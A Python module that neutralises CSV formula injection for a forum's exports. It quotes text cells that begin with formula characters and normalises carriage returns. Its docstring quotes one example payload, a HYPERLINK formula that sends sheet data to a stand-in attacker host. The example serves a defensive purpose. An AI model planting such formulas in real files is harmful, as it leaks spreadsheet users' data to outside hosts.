"""Writing CSV files that are safe to open in a spreadsheet: the one place every CSV writer goes through.

A text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets (``=HYPERLINK("http://evil.example/?"&A1, "Click")`` leaks the sheet). As
OWASP recommends ("CSV Injection"), such cells get a leading single quote, which spreadsheets show as text
and do not evaluate. Numbers (``int``, ``float``, NumPy scalars) are written as they are: ``-1`` is a vote,
not a formula. :func:`restore_cell` undoes the quoting for readers of the forum's own files (the Pol.is
import reads what the export wrote).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` ready for a CSV cell: text that a spreadsheet would run as a formula gets a leading ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def restore_cell(text: str) -> str:
    """The text :func:`safe_cell` was given (a quote followed by a formula start loses the quote)."""
    if text.startswith("'") and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text


def _one_line_ending(value: Any) -> Any:
    if isinstance(value, str) and "\r" in value:
        return value.replace("\r\n", "\n").replace("\r", "\n")
    return value


class SafeWriter:
    """``csv.writer`` whose rows go through :func:`safe_cell`.

    With a line terminator of ``"\n"`` alone, the csv module leaves a carriage return inside a cell
    unquoted, and readers then split the row there (a cell could start a new, unquoted row such as
    ``=1+1``): such writers store line breaks inside cells as ``"\n"``, which is quoted."""

    def __init__(self, fh: IO[str], **options: Any) -> None:
        self._writer = csv.writer(fh, **options)
        self._bare_cr = "\r" not in self._writer.dialect.lineterminator

    def writerow(self, row: Iterable[Any]) -> Any:
        cells = [_one_line_ending(v) for v in row] if self._bare_cr else list(row)
        return self._writer.writerow([safe_cell(v) for v in cells])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(fh: IO[str], **options: Any) -> SafeWriter:
    """A CSV writer (same options as ``csv.writer``) that neutralises formula cells."""
    return SafeWriter(fh, **options)
